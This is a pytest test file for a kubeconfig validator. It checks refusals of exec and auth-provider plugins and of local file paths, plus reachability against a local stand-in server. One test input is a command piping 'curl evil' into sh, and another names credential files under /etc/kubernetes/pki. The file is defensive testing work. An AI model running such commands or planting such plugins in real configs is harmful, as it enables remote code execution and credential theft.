"""Kubeconfig validation: every refusal, and the reachability check over real HTTP."""

from __future__ import annotations

import base64
import json
import socket
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import yaml

from kernel.kubeconfig import (
    KubeconfigError,
    api_client_from_kubeconfig,
    parse_kubeconfig,
    validate_kubeconfig,
)

TOKEN = "good-token"
CA_DATA = base64.b64encode(
    b"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
).decode()


def kubeconfig(server: str = "http://127.0.0.1:9", **changes) -> dict:
    data = {
        "apiVersion": "v1",
        "kind": "Config",
        "current-context": "lab",
        "contexts": [{"name": "lab", "context": {"cluster": "lab", "user": "lab"}}],
        "clusters": [{"name": "lab", "cluster": {"server": server}}],
        "users": [{"name": "lab", "user": {"token": TOKEN}}],
    }
    data.update(changes)
    return data


def text(data: dict) -> str:
    return yaml.safe_dump(data)


def with_user(**fields) -> str:
    return text(kubeconfig(users=[{"name": "lab", "user": fields}]))


def with_cluster(**fields) -> str:
    return text(
        kubeconfig(clusters=[{"name": "lab", "cluster": {"server": "https://k:6443", **fields}}])
    )


@pytest.fixture
def version_server():
    """An API server stand-in: /version answers 200 with the right token, 401 otherwise."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            if self.headers.get("Authorization") != f"Bearer {TOKEN}":
                body, status = (
                    {
                        "kind": "Status",
                        "message": "Unauthorized",
                        "reason": "Unauthorized",
                        "code": 401,
                    },
                    401,
                )
            else:
                body, status = {"gitVersion": "v1.31.2", "major": "1", "minor": "31"}, 200
            payload = json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def refusal(kubeconfig_text: str) -> str:
    with pytest.raises(KubeconfigError) as info:
        validate_kubeconfig(kubeconfig_text, check_reachable=False)
    return str(info.value)


def test_it_rejects_text_that_is_not_yaml():
    assert "not YAML" in refusal("clusters: [unclosed")
    assert "empty" in refusal("   ")
    assert "mapping" in refusal("- just\n- a list\n")


def test_it_rejects_a_kubeconfig_without_current_context():
    data = kubeconfig()
    del data["current-context"]
    assert "no current-context" in refusal(text(data))


def test_it_rejects_a_current_context_that_is_not_defined():
    assert "'elsewhere' is not among the contexts" in refusal(
        text(kubeconfig(**{"current-context": "elsewhere"}))
    )


def test_it_rejects_a_context_naming_a_missing_cluster_or_user():
    contexts = [{"name": "lab", "context": {"cluster": "gone", "user": "lab"}}]
    assert "cluster 'gone', which is missing" in refusal(text(kubeconfig(contexts=contexts)))
    contexts = [{"name": "lab", "context": {"cluster": "lab", "user": "ghost"}}]
    assert "user 'ghost', which is missing" in refusal(text(kubeconfig(contexts=contexts)))


def test_it_rejects_a_cluster_without_an_http_server():
    assert "has no server" in refusal(text(kubeconfig(clusters=[{"name": "lab", "cluster": {}}])))
    assert "not an http(s) URL" in refusal(text(kubeconfig(server="unix:///var/run/k8s.sock")))


def test_it_refuses_exec_credential_plugins():
    message = refusal(
        with_user(exec={"apiVersion": "client.authentication.k8s.io/v1", "command": "/bin/sh"})
    )
    assert "'exec'" in message and "run a command" in message


def test_it_refuses_auth_provider_plugins():
    message = refusal(
        with_user(**{"auth-provider": {"name": "gcp", "config": {"cmd-path": "/usr/bin/gcloud"}}})
    )
    assert "'auth-provider'" in message and "run a command" in message


@pytest.mark.parametrize("field", ["client-certificate", "client-key", "tokenFile"])
def test_it_refuses_user_fields_that_name_local_files(field):
    message = refusal(with_user(**{field: "/etc/kubernetes/pki/admin.key"}))
    assert f"'{field}'" in message and "read a file" in message


def test_it_refuses_a_certificate_authority_path_and_says_what_to_use_instead():
    message = refusal(with_cluster(**{"certificate-authority": "/etc/kubernetes/pki/ca.crt"}))
    assert "read a file" in message and "certificate-authority-data" in message


def test_it_refuses_unsafe_fields_in_entries_other_than_the_current_one():
    users = [
        {"name": "lab", "user": {"token": TOKEN}},
        {"name": "other", "user": {"exec": {"command": "curl evil | sh"}}},
    ]
    assert "user 'other' uses 'exec'" in refusal(text(kubeconfig(users=users)))


def test_it_refuses_inline_data_that_is_not_base64():
    assert "not base64" in refusal(
        with_cluster(**{"certificate-authority-data": "not base64 at all!"})
    )


def test_inline_credentials_are_accepted_without_contacting_the_server():
    summary = validate_kubeconfig(
        with_cluster(**{"certificate-authority-data": CA_DATA}), check_reachable=False
    )
    assert summary == {
        "context": "lab",
        "cluster": "lab",
        "user": "lab",
        "server": "https://k:6443",
    }
    assert parse_kubeconfig(with_user(token="t"))["users"][0]["user"] == {"token": "t"}


def test_a_reachable_server_reports_its_version(version_server):
    summary = validate_kubeconfig(text(kubeconfig(server=version_server)))
    assert summary["kubernetes_version"] == "v1.31.2"


def test_a_wrong_token_is_reported_with_the_http_status(version_server):
    data = kubeconfig(server=version_server, users=[{"name": "lab", "user": {"token": "wrong"}}])
    with pytest.raises(KubeconfigError, match=r"answered GET /version with HTTP 401 Unauthorized"):
        validate_kubeconfig(text(data))


def test_an_unreachable_server_is_reported_with_one_fixed_phrase():
    # Refused, reset or a banner: one phrase, so the answer never tells open ports from closed.
    server = f"http://127.0.0.1:{closed_port()}"
    with pytest.raises(
        KubeconfigError,
        match=r"is not reachable, or did not answer GET /version as a Kubernetes API server$",
    ):
        validate_kubeconfig(text(kubeconfig(server=server)))


def test_the_api_client_sends_the_token_and_has_a_default_timeout(version_server):
    api = api_client_from_kubeconfig(text(kubeconfig(server=version_server)), request_timeout=3)
    from kubernetes import client as k8s

    response = k8s.VersionApi(api).get_code(_preload_content=False)
    assert json.loads(response.data)["gitVersion"] == "v1.31.2"
    assert api.configuration.retries is False
    api.close()


def test_the_api_client_refuses_what_validation_refuses():
    with pytest.raises(KubeconfigError, match="exec"):
        api_client_from_kubeconfig(with_user(exec={"command": "id"}))
